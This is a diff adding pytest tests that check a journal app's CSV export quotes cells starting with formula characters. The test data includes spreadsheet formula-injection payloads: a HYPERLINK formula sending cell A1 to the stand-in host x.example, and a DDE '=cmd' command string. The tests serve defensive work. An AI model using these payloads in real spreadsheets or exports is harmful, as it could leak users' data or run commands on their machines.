@@ -10,7 +10,7 @@ import zipfile
 import pytest
 
 from journal import exports
-from journal.models import Entry, Reset, Situation
+from journal.models import Entry, FocusArea, Reset, Situation
 
 
 def body(response) -> bytes:
@@ -98,3 +98,31 @@ def test_exports_stream_in_bounded_memory(alice):
         tracemalloc.stop()
         assert size > 2_000_000  # compressed zip; the text exports are ~30 MB
         assert peak < limit * 1024 * 1024, (write.__name__, size, peak)
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"Click")', "'=HYPERLINK("),
+        ("=cmd|' /C calc'!A0", "'=cmd|"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTabbed", "'\tTabbed"),
+        ("\rReturn", "'\rReturn"),
+    ],
+)
+def test_csv_cells_never_start_a_formula(alice_client, alice, text, cell):
+    area = FocusArea.objects.create(user=alice, name=text)
+    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title=text, body=text, focus=area)
+    rows = list(csv.reader(io.StringIO(body(alice_client.get("/journal/export/csv/")).decode())))
+    title, focus, entry_body = rows[1][1], rows[1][3], rows[1][4]
+    for value in (title, focus, entry_body):
+        assert value.startswith(cell), value
+        assert value[1:] == text  # the text itself is kept, after the quote
+
+
+def test_plain_csv_cells_are_unchanged():
+    assert exports.spreadsheet_safe("A calm walk") == "A calm walk"
+    assert exports.spreadsheet_safe(4) == 4
+    assert exports.spreadsheet_safe("") == ""
